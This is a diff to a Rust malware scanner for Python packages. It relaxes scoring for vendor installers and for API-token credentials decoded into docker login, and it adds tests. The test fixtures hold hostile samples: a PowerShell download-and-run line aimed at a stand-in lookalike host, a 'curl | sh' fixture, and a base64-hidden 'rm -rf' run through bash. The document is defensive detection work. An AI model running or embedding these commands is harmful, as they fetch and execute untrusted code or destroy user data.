@@ -1559,6 +1559,15 @@ fn check_hidden_command(
     let Some(decoder) = super::dynamic_exec::contains_decoding(checker, arg) else {
         return;
     };
+    // Decoded from data the code received (an API's token), not from a constant it carries:
+    // unpacked, not hidden. What the data came from is weighed by the data-flow rule.
+    if checker.holds_received_decoding(arg)
+        || super::partial_command_text(checker, arg)
+            .as_deref()
+            .is_some_and(decodes_only_runtime_arguments)
+    {
+        return;
+    }
     // Installers spell out their `curl … | sh`; one decoded from base64 first is hidden from
     // the very reviewer who would object to it, whoever calls the function.
     let payload = is_dangerous_command(command) || fetches_and_marks_executable(command);
@@ -1580,6 +1589,26 @@ fn check_hidden_command(
         severity,
         vec!["spawn", "hidden-command", "obfuscation"],
     );
+}
+
+/// `["docker", "login", "-u", user, "-p", password, registry]` with the credentials decoded
+/// from a token an API returned: the program is in plain sight, a tool that neither runs what
+/// it is given nor talks to the network for it, and only arguments folding cannot read were
+/// decoded. A command hidden from its reviewer folds to its decoded text (folding decodes
+/// constants) or starts a launcher.
+fn decodes_only_runtime_arguments(command: &str) -> bool {
+    let program = command.split_whitespace().next().unwrap_or("");
+    let name = program_stem(program.rsplit('/').next().unwrap_or(program));
+    command.contains(crate::fold::UNKNOWN)
+        && !program.contains(crate::fold::UNKNOWN)
+        && !program.is_empty()
+        && program
+            .chars()
+            .all(|c| c.is_ascii_alphanumeric() || matches!(c, '-' | '_' | '.' | '/'))
+        && !is_launcher(&name)
+        && network_tool(program).is_none()
+        && !is_shell_trick(command)
+        && !is_dangerous_command(command)
 }
 
 /// `creationflags=CREATE_NO_WINDOW` or `DETACHED_PROCESS`: a process the user must not see.
@@ -1999,7 +2028,16 @@ fn classify_command(
             // A constant download-and-run command has one purpose whenever it runs; a function
             // that only a caller triggers still weighs less than loading code.
             match context {
+                // A toolchain's own installer piped into a shell (`irm https://astral.sh/uv/
+                // install.ps1 | iex`) sets up that tool: the script is the vendor's, not a
+                // payload the package's author controls.
+                ExecContext::Install | ExecContext::Import
+                    if pipes_only_vendor_installers(command) =>
+                {
+                    0.4
+                }
                 ExecContext::Install | ExecContext::Import => 0.9,
+                ExecContext::Runtime if pipes_only_vendor_installers(command) => 0.1,
                 ExecContext::Runtime if fetches_and_marks_executable(command) => 0.75,
                 ExecContext::Runtime if is_plain_fetch(command) => 0.25,
                 ExecContext::Runtime => 0.6,
@@ -2668,6 +2706,11 @@ def use_mirror(url):
         assert!(max_severity("other-1.0/other/runtime.py", &lookalike, "WH120") >= 0.7);
         let plain = vendor.replace("https://astral.sh", "http://astral.sh");
         assert!(max_severity("other-1.0/other/runtime.py", &plain, "WH120") >= 0.7);
+        // Run as well as carried: a toolkit installing `uv` when asked.
+        let runs = "import subprocess\ndef install_uv():\n    subprocess.run('powershell -ExecutionPolicy Bypass -c \"irm https://astral.sh/uv/install.ps1 | iex\"', shell=True)\n";
+        assert!(max_severity("other-1.0/other/tools.py", runs, "WH120") <= 0.1);
+        let payload = runs.replace("astral.sh/uv", "astral-sh.example/uv");
+        assert!(max_severity("other-1.0/other/tools.py", &payload, "WH120") >= 0.5);
         let label = "PATTERNS = [('wget_sh', 'Download and run (wget | sh)')]\n";
         assert_eq!(max_severity("p/pkg/__init__.py", label, "WH120"), 0.0);
         let fixture = "CMD = 'curl -s https://x.invalid/a.sh | sh'\n";
@@ -2871,6 +2914,12 @@ def up():
         assert!(max_severity("p/setup.py", code, "WH120") >= 0.6);
         let plain = "import os\nos.system('type nul > x.txt')\n";
         assert!(max_severity("p/setup.py", plain, "WH120") < 0.2);
+        // A registry token an API returned, decoded into a named tool's arguments, hides nothing.
+        let login = "import base64, subprocess\ndef login(ecr, uri):\n    token = ecr.get_authorization_token()['authorizationData'][0]['authorizationToken']\n    user, password = base64.b64decode(token).decode().split(':')\n    cmd = ['docker', 'login', '-u', user, '-p', password, uri]\n    subprocess.run(cmd, check=True)\n";
+        assert!(max_severity("p/pkg/deploy.py", login, "WH120") < 0.2);
+        // The same decoding of a constant the code carries is hidden from its reviewer.
+        let carried = "import base64, subprocess\ndef run():\n    TOKEN = 'cm0gLXJmIH4vLmNhY2hlOng='\n    step, _ = base64.b64decode(TOKEN).decode().split(':')\n    subprocess.run(['bash', '-c', step])\n";
+        assert!(max_severity("p/pkg/deploy.py", carried, "WH120") >= 0.35);
     }
 
     #[test]
